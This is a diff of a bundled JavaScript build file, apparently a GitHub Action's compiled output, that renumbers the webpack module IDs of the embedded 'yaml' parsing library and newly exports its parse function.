@@ -50097,7 +57958,7 @@ exports.containsNewline = containsNewline;
 
 /***/ }),
 
-/***/ 4831:
+/***/ 2599:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -50132,12 +57993,12 @@ exports.emptyScalarPosition = emptyScalarPosition;
 
 /***/ }),
 
-/***/ 7723:
+/***/ 4051:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var utilContainsNewline = __nccwpck_require__(9699);
+var utilContainsNewline = __nccwpck_require__(9499);
 
 function flowIndentCheck(indent, fc, onError) {
     if (fc?.type === 'flow-collection') {
@@ -50156,12 +58017,12 @@ exports.flowIndentCheck = flowIndentCheck;
 
 /***/ }),
 
-/***/ 8539:
+/***/ 1187:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
+var identity = __nccwpck_require__(1127);
 
 function mapIncludes(ctx, items, search) {
     const { uniqueKeys } = ctx.options;
@@ -50178,22 +58039,22 @@ exports.mapIncludes = mapIncludes;
 
 /***/ }),
 
-/***/ 6885:
+/***/ 3021:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Alias = __nccwpck_require__(7641);
-var Collection = __nccwpck_require__(3469);
-var identity = __nccwpck_require__(415);
-var Pair = __nccwpck_require__(4245);
-var toJS = __nccwpck_require__(915);
-var Schema = __nccwpck_require__(8296);
-var stringifyDocument = __nccwpck_require__(7653);
-var anchors = __nccwpck_require__(5236);
-var applyReviver = __nccwpck_require__(5797);
-var createNode = __nccwpck_require__(2076);
-var directives = __nccwpck_require__(2342);
+var Alias = __nccwpck_require__(4065);
+var Collection = __nccwpck_require__(101);
+var identity = __nccwpck_require__(1127);
+var Pair = __nccwpck_require__(7165);
+var toJS = __nccwpck_require__(6424);
+var Schema = __nccwpck_require__(5840);
+var stringifyDocument = __nccwpck_require__(6829);
+var anchors = __nccwpck_require__(1596);
+var applyReviver = __nccwpck_require__(3661);
+var createNode = __nccwpck_require__(2404);
+var directives = __nccwpck_require__(1342);
 
 class Document {
     constructor(value, replacer, options) {
@@ -50522,13 +58383,13 @@ exports.Document = Document;
 
 /***/ }),
 
-/***/ 5236:
+/***/ 1596:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var visit = __nccwpck_require__(292);
+var identity = __nccwpck_require__(1127);
+var visit = __nccwpck_require__(204);
 
 /**
  * Verify that the input string is a valid anchor.
@@ -50605,7 +58466,7 @@ exports.findNewAnchor = findNewAnchor;
 
 /***/ }),
 
-/***/ 5797:
+/***/ 3661:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -50669,14 +58530,14 @@ exports.applyReviver = applyReviver;
 
 /***/ }),
 
-/***/ 2076:
+/***/ 2404:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Alias = __nccwpck_require__(7641);
-var identity = __nccwpck_require__(415);
-var Scalar = __nccwpck_require__(2765);
+var Alias = __nccwpck_require__(4065);
+var identity = __nccwpck_require__(1127);
+var Scalar = __nccwpck_require__(3301);
 
 const defaultTagPrefix = 'tag:yaml.org,2002:';
 function findTagObject(value, tagName, tags) {
@@ -50766,13 +58627,13 @@ exports.createNode = createNode;
 
 /***/ }),
 
-/***/ 2342:
+/***/ 1342:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var visit = __nccwpck_require__(292);
+var identity = __nccwpck_require__(1127);
+var visit = __nccwpck_require__(204);
 
 const escapeChars = {
     '!': '%21',
@@ -50951,7 +58812,7 @@ exports.Directives = Directives;
 
 /***/ }),
 
-/***/ 3376:
+/***/ 1464:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -51020,28 +58881,28 @@ exports.prettifyError = prettifyError;
 
 /***/ }),
 
-/***/ 7207:
+/***/ 8815:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 var __webpack_unused_export__;
 
 
-var composer = __nccwpck_require__(3480);
-var Document = __nccwpck_require__(6885);
-var Schema = __nccwpck_require__(8296);
-var errors = __nccwpck_require__(3376);
-var Alias = __nccwpck_require__(7641);
-var identity = __nccwpck_require__(415);
-var Pair = __nccwpck_require__(4245);
-var Scalar = __nccwpck_require__(2765);
-var YAMLMap = __nccwpck_require__(1950);
-var YAMLSeq = __nccwpck_require__(7495);
-var cst = __nccwpck_require__(5421);
-var lexer = __nccwpck_require__(2081);
-var lineCounter = __nccwpck_require__(4588);
-var parser = __nccwpck_require__(6651);
-var publicApi = __nccwpck_require__(8759);
-var visit = __nccwpck_require__(292);
+var composer = __nccwpck_require__(9984);
+var Document = __nccwpck_require__(3021);
+var Schema = __nccwpck_require__(5840);
+var errors = __nccwpck_require__(1464);
+var Alias = __nccwpck_require__(4065);
+var identity = __nccwpck_require__(1127);
+var Pair = __nccwpck_require__(7165);
+var Scalar = __nccwpck_require__(3301);
+var YAMLMap = __nccwpck_require__(4454);
+var YAMLSeq = __nccwpck_require__(2223);
+var cst = __nccwpck_require__(3461);
+var lexer = __nccwpck_require__(361);
+var lineCounter = __nccwpck_require__(6628);
+var parser = __nccwpck_require__(3456);
+var publicApi = __nccwpck_require__(4047);
+var visit = __nccwpck_require__(204);
 
 
 
@@ -51068,7 +58929,7 @@ __webpack_unused_export__ = cst;
 __webpack_unused_export__ = lexer.Lexer;
 exports.HN = lineCounter.LineCounter;
 __webpack_unused_export__ = parser.Parser;
-__webpack_unused_export__ = publicApi.parse;
+exports.qg = publicApi.parse;
 exports.hR = publicApi.parseAllDocuments;
 exports.Tp = publicApi.parseDocument;
 __webpack_unused_export__ = publicApi.stringify;
@@ -51078,7 +58939,7 @@ __webpack_unused_export__ = visit.visitAsync;
 
 /***/ }),
 
-/***/ 2745:
+/***/ 7249:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
@@ -51104,16 +58965,16 @@ exports.warn = warn;
 
 /***/ }),
 
-/***/ 7641:
+/***/ 4065:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var anchors = __nccwpck_require__(5236);
-var visit = __nccwpck_require__(292);
-var identity = __nccwpck_require__(415);
-var Node = __nccwpck_require__(6617);
-var toJS = __nccwpck_require__(915);
+var anchors = __nccwpck_require__(1596);
+var visit = __nccwpck_require__(204);
+var identity = __nccwpck_require__(1127);
+var Node = __nccwpck_require__(6673);
+var toJS = __nccwpck_require__(6424);
 
 class Alias extends Node.NodeBase {
     constructor(source) {
@@ -51231,14 +59092,14 @@ exports.Alias = Alias;
 
 /***/ }),
 
-/***/ 3469:
+/***/ 101:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var createNode = __nccwpck_require__(2076);
-var identity = __nccwpck_require__(415);
-var Node = __nccwpck_require__(6617);
+var createNode = __nccwpck_require__(2404);
+var identity = __nccwpck_require__(1127);
+var Node = __nccwpck_require__(6673);
 
 function collectionFromPath(schema, path, value) {
     let v = value;
@@ -51389,14 +59250,14 @@ exports.isEmptyPath = isEmptyPath;
 
 /***/ }),
 
-/***/ 6617:
+/***/ 6673:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var applyReviver = __nccwpck_require__(5797);
-var identity = __nccwpck_require__(415);
-var toJS = __nccwpck_require__(915);
+var applyReviver = __nccwpck_require__(3661);
+var identity = __nccwpck_require__(1127);
+var toJS = __nccwpck_require__(6424);
 
 class NodeBase {
     constructor(type) {
@@ -51436,15 +59297,15 @@ exports.NodeBase = NodeBase;
 
 /***/ }),
 
-/***/ 4245:
+/***/ 7165:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var createNode = __nccwpck_require__(2076);
-var stringifyPair = __nccwpck_require__(5004);
-var addPairToJSMap = __nccwpck_require__(9256);
-var identity = __nccwpck_require__(415);
+var createNode = __nccwpck_require__(2404);
+var stringifyPair = __nccwpck_require__(9748);
+var addPairToJSMap = __nccwpck_require__(7104);
+var identity = __nccwpck_require__(1127);
 
 function createPair(key, value, ctx) {
     const k = createNode.createNode(key, undefined, ctx);
@@ -51482,14 +59343,14 @@ exports.createPair = createPair;
 
 /***/ }),
 
-/***/ 2765:
+/***/ 3301:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var Node = __nccwpck_require__(6617);
-var toJS = __nccwpck_require__(915);
+var identity = __nccwpck_require__(1127);
+var Node = __nccwpck_require__(6673);
+var toJS = __nccwpck_require__(6424);
 
 const isScalarValue = (value) => !value || (typeof value !== 'function' && typeof value !== 'object');
 class Scalar extends Node.NodeBase {
@@ -51516,17 +59377,17 @@ exports.isScalarValue = isScalarValue;
 
 /***/ }),
 
-/***/ 1950:
+/***/ 4454:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyCollection = __nccwpck_require__(6340);
-var addPairToJSMap = __nccwpck_require__(9256);
-var Collection = __nccwpck_require__(3469);
-var identity = __nccwpck_require__(415);
-var Pair = __nccwpck_require__(4245);
-var Scalar = __nccwpck_require__(2765);
+var stringifyCollection = __nccwpck_require__(1212);
+var addPairToJSMap = __nccwpck_require__(7104);
+var Collection = __nccwpck_require__(101);
+var identity = __nccwpck_require__(1127);
+var Pair = __nccwpck_require__(7165);
+var Scalar = __nccwpck_require__(3301);
 
 function findPair(items, key) {
     const k = identity.isScalar(key) ? key.value : key;
@@ -51670,17 +59531,17 @@ exports.findPair = findPair;
 
 /***/ }),
 
-/***/ 7495:
+/***/ 2223:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var createNode = __nccwpck_require__(2076);
-var stringifyCollection = __nccwpck_require__(6340);
-var Collection = __nccwpck_require__(3469);
-var identity = __nccwpck_require__(415);
-var Scalar = __nccwpck_require__(2765);
-var toJS = __nccwpck_require__(915);
+var createNode = __nccwpck_require__(2404);
+var stringifyCollection = __nccwpck_require__(1212);
+var Collection = __nccwpck_require__(101);
+var identity = __nccwpck_require__(1127);
+var Scalar = __nccwpck_require__(3301);
+var toJS = __nccwpck_require__(6424);
 
 class YAMLSeq extends Collection.Collection {
     static get tagName() {
@@ -51792,16 +59653,16 @@ exports.YAMLSeq = YAMLSeq;
 
 /***/ }),
 
-/***/ 9256:
+/***/ 7104:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var log = __nccwpck_require__(2745);
-var merge = __nccwpck_require__(6220);
-var stringify = __nccwpck_require__(732);
-var identity = __nccwpck_require__(415);
-var toJS = __nccwpck_require__(915);
+var log = __nccwpck_require__(7249);
+var merge = __nccwpck_require__(452);
+var stringify = __nccwpck_require__(2148);
+var identity = __nccwpck_require__(1127);
+var toJS = __nccwpck_require__(6424);
 
 function addPairToJSMap(ctx, map, { key, value }) {
     if (identity.isNode(key) && key.addToJSMap)
@@ -51864,7 +59725,7 @@ exports.addPairToJSMap = addPairToJSMap;
 
 /***/ }),
 
-/***/ 415:
+/***/ 1127:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -51924,12 +59785,12 @@ exports.isSeq = isSeq;
 
 /***/ }),
 
-/***/ 915:
+/***/ 6424:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
+var identity = __nccwpck_require__(1127);
 
 /**
  * Recursively convert any node or its contents to native JavaScript
@@ -51970,15 +59831,15 @@ exports.toJS = toJS;
 
 /***/ }),
 
-/***/ 1366:
+/***/ 110:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var resolveBlockScalar = __nccwpck_require__(809);
-var resolveFlowScalar = __nccwpck_require__(8066);
-var errors = __nccwpck_require__(3376);
-var stringifyString = __nccwpck_require__(501);
+var resolveBlockScalar = __nccwpck_require__(8913);
+var resolveFlowScalar = __nccwpck_require__(6842);
+var errors = __nccwpck_require__(1464);
+var stringifyString = __nccwpck_require__(3069);
 
 function resolveAsScalar(token, strict = true, onError) {
     if (token) {
@@ -52195,7 +60056,7 @@ exports.setScalarValue = setScalarValue;
 
 /***/ }),
 
-/***/ 8013:
+/***/ 1733:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -52265,7 +60126,7 @@ exports.stringify = stringify;
 
 /***/ }),
 
-/***/ 4555:
+/***/ 7715:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -52371,14 +60232,14 @@ exports.visit = visit;
 
 /***/ }),
 
-/***/ 5421:
+/***/ 3461:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var cstScalar = __nccwpck_require__(1366);
-var cstStringify = __nccwpck_require__(8013);
-var cstVisit = __nccwpck_require__(4555);
+var cstScalar = __nccwpck_require__(110);
+var cstStringify = __nccwpck_require__(1733);
+var cstVisit = __nccwpck_require__(7715);
 
 /** The byte order mark */
 const BOM = '\u{FEFF}';
@@ -52490,12 +60351,12 @@ exports.tokenType = tokenType;
 
 /***/ }),
 
-/***/ 2081:
+/***/ 361:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var cst = __nccwpck_require__(5421);
+var cst = __nccwpck_require__(3461);
 
 /*
 START -> stream
@@ -53220,7 +61081,7 @@ exports.Lexer = Lexer;
 
 /***/ }),
 
-/***/ 4588:
+/***/ 6628:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -53268,14 +61129,14 @@ exports.LineCounter = LineCounter;
 
 /***/ }),
 
-/***/ 6651:
+/***/ 3456:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
 var node_process = __nccwpck_require__(932);
-var cst = __nccwpck_require__(5421);
-var lexer = __nccwpck_require__(2081);
+var cst = __nccwpck_require__(3461);
+var lexer = __nccwpck_require__(361);
 
 function includesToken(list, type) {
     for (let i = 0; i < list.length; ++i)
@@ -54255,18 +62116,18 @@ exports.Parser = Parser;
 
 /***/ }),
 
-/***/ 8759:
+/***/ 4047:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var composer = __nccwpck_require__(3480);
-var Document = __nccwpck_require__(6885);
-var errors = __nccwpck_require__(3376);
-var log = __nccwpck_require__(2745);
-var identity = __nccwpck_require__(415);
-var lineCounter = __nccwpck_require__(4588);
-var parser = __nccwpck_require__(6651);
+var composer = __nccwpck_require__(9984);
+var Document = __nccwpck_require__(3021);
+var errors = __nccwpck_require__(1464);
+var log = __nccwpck_require__(7249);
+var identity = __nccwpck_require__(1127);
+var lineCounter = __nccwpck_require__(6628);
+var parser = __nccwpck_require__(3456);
 
 function parseOptions(options) {
     const prettyErrors = options.prettyErrors !== false;
@@ -54369,16 +62230,16 @@ exports.stringify = stringify;
 
 /***/ }),
 
-/***/ 8296:
+/***/ 5840:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var map = __nccwpck_require__(7683);
-var seq = __nccwpck_require__(4066);
-var string = __nccwpck_require__(4088);
-var tags = __nccwpck_require__(3578);
+var identity = __nccwpck_require__(1127);
+var map = __nccwpck_require__(7451);
+var seq = __nccwpck_require__(1706);
+var string = __nccwpck_require__(6464);
+var tags = __nccwpck_require__(18);
 
 const sortMapEntriesByKey = (a, b) => a.key < b.key ? -1 : a.key > b.key ? 1 : 0;
 class Schema {
@@ -54415,13 +62276,13 @@ exports.Schema = Schema;
 
 /***/ }),
 
-/***/ 7683:
+/***/ 7451:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var YAMLMap = __nccwpck_require__(1950);
+var identity = __nccwpck_require__(1127);
+var YAMLMap = __nccwpck_require__(4454);
 
 const map = {
     collection: 'map',
@@ -54441,12 +62302,12 @@ exports.map = map;
 
 /***/ }),
 
-/***/ 1528:
+/***/ 3632:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(2765);
+var Scalar = __nccwpck_require__(3301);
 
 const nullTag = {
     identify: value => value == null,
@@ -54465,13 +62326,13 @@ exports.nullTag = nullTag;
 
 /***/ }),
 
-/***/ 4066:
+/***/ 1706:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var YAMLSeq = __nccwpck_require__(7495);
+var identity = __nccwpck_require__(1127);
+var YAMLSeq = __nccwpck_require__(2223);
 
 const seq = {
     collection: 'seq',
@@ -54491,12 +62352,12 @@ exports.seq = seq;
 
 /***/ }),
 
-/***/ 4088:
+/***/ 6464:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyString = __nccwpck_require__(501);
+var stringifyString = __nccwpck_require__(3069);
 
 const string = {
     identify: value => typeof value === 'string',
@@ -54514,12 +62375,12 @@ exports.string = string;
 
 /***/ }),
 
-/***/ 7247:
+/***/ 3959:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(2765);
+var Scalar = __nccwpck_require__(3301);
 
 const boolTag = {
     identify: value => typeof value === 'boolean',
@@ -54542,13 +62403,13 @@ exports.boolTag = boolTag;
 
 /***/ }),
 
-/***/ 7661:
+/***/ 8405:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(2765);
-var stringifyNumber = __nccwpck_require__(2729);
+var Scalar = __nccwpck_require__(3301);
+var stringifyNumber = __nccwpck_require__(8689);
 
 const floatNaN = {
     identify: value => typeof value === 'number',
@@ -54596,12 +62457,12 @@ exports.floatNaN = floatNaN;
 
 /***/ }),
 
-/***/ 9546:
+/***/ 9874:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyNumber = __nccwpck_require__(2729);
+var stringifyNumber = __nccwpck_require__(8689);
 
 const intIdentify = (value) => typeof value === 'bigint' || Number.isInteger(value);
 const intResolve = (str, offset, radix, { intAsBigInt }) => (intAsBigInt ? BigInt(str) : parseInt(str.substring(offset), radix));
@@ -54645,18 +62506,18 @@ exports.intOct = intOct;
 
 /***/ }),
 
-/***/ 9032:
+/***/ 896:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var map = __nccwpck_require__(7683);
-var _null = __nccwpck_require__(1528);
-var seq = __nccwpck_require__(4066);
-var string = __nccwpck_require__(4088);
-var bool = __nccwpck_require__(7247);
-var float = __nccwpck_require__(7661);
-var int = __nccwpck_require__(9546);
+var map = __nccwpck_require__(7451);
+var _null = __nccwpck_require__(3632);
+var seq = __nccwpck_require__(1706);
+var string = __nccwpck_require__(6464);
+var bool = __nccwpck_require__(3959);
+var float = __nccwpck_require__(8405);
+var int = __nccwpck_require__(9874);
 
 const schema = [
     map.map,
@@ -54677,14 +62538,14 @@ exports.schema = schema;
 
 /***/ }),
 
-/***/ 7519:
+/***/ 3559:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(2765);
-var map = __nccwpck_require__(7683);
-var seq = __nccwpck_require__(4066);
+var Scalar = __nccwpck_require__(3301);
+var map = __nccwpck_require__(7451);
+var seq = __nccwpck_require__(1706);
 
 function intIdentify(value) {
     return typeof value === 'bigint' || Number.isInteger(value);
@@ -54748,27 +62609,27 @@ exports.schema = schema;
 
 /***/ }),
 
-/***/ 3578:
+/***/ 18:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var map = __nccwpck_require__(7683);
-var _null = __nccwpck_require__(1528);
-var seq = __nccwpck_require__(4066);
-var string = __nccwpck_require__(4088);
-var bool = __nccwpck_require__(7247);
-var float = __nccwpck_require__(7661);
-var int = __nccwpck_require__(9546);
-var schema = __nccwpck_require__(9032);
-var schema$1 = __nccwpck_require__(7519);
-var binary = __nccwpck_require__(4011);
-var merge = __nccwpck_require__(6220);
-var omap = __nccwpck_require__(2775);
-var pairs = __nccwpck_require__(1705);
-var schema$2 = __nccwpck_require__(1921);
-var set = __nccwpck_require__(832);
-var timestamp = __nccwpck_require__(168);
+var map = __nccwpck_require__(7451);
+var _null = __nccwpck_require__(3632);
+var seq = __nccwpck_require__(1706);
+var string = __nccwpck_require__(6464);
+var bool = __nccwpck_require__(3959);
+var float = __nccwpck_require__(8405);
+var int = __nccwpck_require__(9874);
+var schema = __nccwpck_require__(896);
+var schema$1 = __nccwpck_require__(3559);
+var binary = __nccwpck_require__(6083);
+var merge = __nccwpck_require__(452);
+var omap = __nccwpck_require__(303);
+var pairs = __nccwpck_require__(8385);
+var schema$2 = __nccwpck_require__(5913);
+var set = __nccwpck_require__(1528);
+var timestamp = __nccwpck_require__(4371);
 
 const schemas = new Map([
     ['core', schema.schema],
@@ -54854,14 +62715,14 @@ exports.getTags = getTags;
 
 /***/ }),
 
-/***/ 4011:
+/***/ 6083:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
 var node_buffer = __nccwpck_require__(181);
-var Scalar = __nccwpck_require__(2765);
-var stringifyString = __nccwpck_require__(501);
+var Scalar = __nccwpck_require__(3301);
+var stringifyString = __nccwpck_require__(3069);
 
 const binary = {
     identify: value => value instanceof Uint8Array, // Buffer inherits from Uint8Array
@@ -54931,12 +62792,12 @@ exports.binary = binary;
 
 /***/ }),
 
-/***/ 2214:
+/***/ 8398:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(2765);
+var Scalar = __nccwpck_require__(3301);
 
 function boolStringify({ value, source }, ctx) {
     const boolObj = value ? trueTag : falseTag;
@@ -54967,13 +62828,13 @@ exports.trueTag = trueTag;
 
 /***/ }),
 
-/***/ 9614:
+/***/ 5782:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(2765);
-var stringifyNumber = __nccwpck_require__(2729);
+var Scalar = __nccwpck_require__(3301);
+var stringifyNumber = __nccwpck_require__(8689);
 
 const floatNaN = {
     identify: value => typeof value === 'number',
@@ -55024,12 +62885,12 @@ exports.floatNaN = floatNaN;
 
 /***/ }),
 
-/***/ 6257:
+/***/ 873:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyNumber = __nccwpck_require__(2729);
+var stringifyNumber = __nccwpck_require__(8689);
 
 const intIdentify = (value) => typeof value === 'bigint' || Number.isInteger(value);
 function intResolve(str, offset, radix, { intAsBigInt }) {
@@ -55107,13 +62968,13 @@ exports.intOct = intOct;
 
 /***/ }),
 
-/***/ 6220:
+/***/ 452:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var Scalar = __nccwpck_require__(2765);
+var identity = __nccwpck_require__(1127);
+var Scalar = __nccwpck_require__(3301);
 
 // If the value associated with a merge key is a single mapping node, each of
 // its key/value pairs is inserted into the current mapping, unless the key
@@ -55185,16 +63046,16 @@ exports.merge = merge;
 
 /***/ }),
 
-/***/ 2775:
+/***/ 303:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var toJS = __nccwpck_require__(915);
-var YAMLMap = __nccwpck_require__(1950);
-var YAMLSeq = __nccwpck_require__(7495);
-var pairs = __nccwpck_require__(1705);
+var identity = __nccwpck_require__(1127);
+var toJS = __nccwpck_require__(6424);
+var YAMLMap = __nccwpck_require__(4454);
+var YAMLSeq = __nccwpck_require__(2223);
+var pairs = __nccwpck_require__(8385);
 
 class YAMLOMap extends YAMLSeq.YAMLSeq {
     constructor() {
@@ -55269,15 +63130,15 @@ exports.omap = omap;
 
 /***/ }),
 
-/***/ 1705:
+/***/ 8385:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var Pair = __nccwpck_require__(4245);
-var Scalar = __nccwpck_require__(2765);
-var YAMLSeq = __nccwpck_require__(7495);
+var identity = __nccwpck_require__(1127);
+var Pair = __nccwpck_require__(7165);
+var Scalar = __nccwpck_require__(3301);
+var YAMLSeq = __nccwpck_require__(2223);
 
 function resolvePairs(seq, onError) {
     if (identity.isSeq(seq)) {
@@ -55358,24 +63219,24 @@ exports.resolvePairs = resolvePairs;
 
 /***/ }),
 
-/***/ 1921:
+/***/ 5913:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var map = __nccwpck_require__(7683);
-var _null = __nccwpck_require__(1528);
-var seq = __nccwpck_require__(4066);
-var string = __nccwpck_require__(4088);
-var binary = __nccwpck_require__(4011);
-var bool = __nccwpck_require__(2214);
-var float = __nccwpck_require__(9614);
-var int = __nccwpck_require__(6257);
-var merge = __nccwpck_require__(6220);
-var omap = __nccwpck_require__(2775);
-var pairs = __nccwpck_require__(1705);
-var set = __nccwpck_require__(832);
-var timestamp = __nccwpck_require__(168);
+var map = __nccwpck_require__(7451);
+var _null = __nccwpck_require__(3632);
+var seq = __nccwpck_require__(1706);
+var string = __nccwpck_require__(6464);
+var binary = __nccwpck_require__(6083);
+var bool = __nccwpck_require__(8398);
+var float = __nccwpck_require__(5782);
+var int = __nccwpck_require__(873);
+var merge = __nccwpck_require__(452);
+var omap = __nccwpck_require__(303);
+var pairs = __nccwpck_require__(8385);
+var set = __nccwpck_require__(1528);
+var timestamp = __nccwpck_require__(4371);
 
 const schema = [
     map.map,
@@ -55406,14 +63267,14 @@ exports.schema = schema;
 
 /***/ }),
 
-/***/ 832:
+/***/ 1528:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var Pair = __nccwpck_require__(4245);
-var YAMLMap = __nccwpck_require__(1950);
+var identity = __nccwpck_require__(1127);
+var Pair = __nccwpck_require__(7165);
+var YAMLMap = __nccwpck_require__(4454);
 
 class YAMLSet extends YAMLMap.YAMLMap {
     constructor(schema) {
@@ -55509,12 +63370,12 @@ exports.set = set;
 
 /***/ }),
 
-/***/ 168:
+/***/ 4371:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var stringifyNumber = __nccwpck_require__(2729);
+var stringifyNumber = __nccwpck_require__(8689);
 
 /** Internal types handle bigint as number, because TS can't figure it out. */
 function parseSexagesimal(str, asBigInt) {
@@ -55621,7 +63482,7 @@ exports.timestamp = timestamp;
 
 /***/ }),
 
-/***/ 3699:
+/***/ 4475:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -55779,15 +63640,15 @@ exports.foldFlowLines = foldFlowLines;
 
 /***/ }),
 
-/***/ 732:
+/***/ 2148:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var anchors = __nccwpck_require__(5236);
-var identity = __nccwpck_require__(415);
-var stringifyComment = __nccwpck_require__(8927);
-var stringifyString = __nccwpck_require__(501);
+var anchors = __nccwpck_require__(1596);
+var identity = __nccwpck_require__(1127);
+var stringifyComment = __nccwpck_require__(9799);
+var stringifyString = __nccwpck_require__(3069);
 
 function createStringifyContext(doc, options) {
     const opt = Object.assign({
@@ -55918,14 +63779,14 @@ exports.stringify = stringify;
 
 /***/ }),
 
-/***/ 6340:
+/***/ 1212:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var stringify = __nccwpck_require__(732);
-var stringifyComment = __nccwpck_require__(8927);
+var identity = __nccwpck_require__(1127);
+var stringify = __nccwpck_require__(2148);
+var stringifyComment = __nccwpck_require__(9799);
 
 function stringifyCollection(collection, ctx, options) {
     const flow = ctx.inFlow ?? collection.flow;
@@ -56080,7 +63941,7 @@ exports.stringifyCollection = stringifyCollection;
 
 /***/ }),
 
-/***/ 8927:
+/***/ 9799:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -56111,14 +63972,14 @@ exports.stringifyComment = stringifyComment;
 
 /***/ }),
 
-/***/ 7653:
+/***/ 6829:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var stringify = __nccwpck_require__(732);
-var stringifyComment = __nccwpck_require__(8927);
+var identity = __nccwpck_require__(1127);
+var stringify = __nccwpck_require__(2148);
+var stringifyComment = __nccwpck_require__(9799);
 
 function stringifyDocument(doc, options) {
     const lines = [];
@@ -56205,7 +64066,7 @@ exports.stringifyDocument = stringifyDocument;
 
 /***/ }),
 
-/***/ 2729:
+/***/ 8689:
 /***/ ((__unused_webpack_module, exports) => {
 
 
@@ -56239,15 +64100,15 @@ exports.stringifyNumber = stringifyNumber;
 
 /***/ }),
 
-/***/ 5004:
+/***/ 9748:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var identity = __nccwpck_require__(415);
-var Scalar = __nccwpck_require__(2765);
-var stringify = __nccwpck_require__(732);
-var stringifyComment = __nccwpck_require__(8927);
+var identity = __nccwpck_require__(1127);
+var Scalar = __nccwpck_require__(3301);
+var stringify = __nccwpck_require__(2148);
+var stringifyComment = __nccwpck_require__(9799);
 
 function stringifyPair({ key, value }, ctx, onComment, onChompKeep) {
     const { allNullValues, doc, indent, indentStep, options: { commentString, indentSeq, simpleKeys } } = ctx;
@@ -56398,13 +64259,13 @@ exports.stringifyPair = stringifyPair;
 
 /***/ }),
 
-/***/ 501:
+/***/ 3069:
 /***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 
-var Scalar = __nccwpck_require__(2765);
-var foldFlowLines = __nccwpck_require__(3699);
+var Scalar = __nccwpck_require__(3301);
+var foldFlowLines = __nccwpck_require__(4475);
 
